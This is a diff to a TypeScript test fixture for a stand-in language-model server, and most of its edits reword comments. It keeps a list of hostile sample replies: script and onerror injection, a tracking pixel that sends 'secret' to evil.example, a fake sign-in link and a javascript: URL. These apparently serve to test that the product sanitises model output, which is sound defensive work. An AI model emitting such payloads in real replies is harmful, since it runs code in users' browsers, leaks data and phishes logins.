@@ -1,10 +1,13 @@
-/** What the stand-in for a language model says, in OpenAI's words. */
+/** The replies of the stand-in for a language model, in OpenAI's format. */
 import type { ModelRequestJson } from './model-server.ts';
 
 export type ReplyJson = Record<string, unknown>;
 type Message = { readonly content?: string; readonly refusal?: string };
 
-/** Everything that a reply must not become: elements, scripts, pictures, links, and deeds. */
+/**
+ * Everything that the product must not execute, render or link from a reply: elements, scripts, pictures, links, and
+ * claims of actions.
+ */
 export const HOSTILE_REPLY = [
   'Of course. <script>document.title = "taken over"</script><img src="https://evil.example/a.png" onerror="document.title = 1">',
   '![tracker](https://evil.example/pixel.png?q=secret) [Sign in again](https://evil.example/sign-in) [x](javascript:alert(1))',
@@ -42,7 +45,7 @@ export const wholeReply = (json: ModelRequestJson, message: Message): ReplyJson 
   usage: usageOf(json, message),
 });
 
-/** The reply word by word, its end, and the chunk with the tokens, which has no choices. */
+/** The chunks of a streamed reply: one per word, the end, and the chunk with the token usage, which has no choices. */
 export function chunksOf(
   json: ModelRequestJson,
   message: Message,
@@ -62,7 +65,7 @@ export function chunksOf(
 
 type Schema = { type?: string | readonly string[]; enum?: readonly unknown[]; properties?: Record<string, Schema> };
 
-/** A value that fits a strict schema and says nothing. */
+/** An empty value that is valid for a strict schema. */
 export function emptyValue({ type = 'object', enum: choices, properties = {} }: Schema): unknown {
   const types = typeof type === 'string' ? [type] : type;
   if (types.includes('null')) return null;
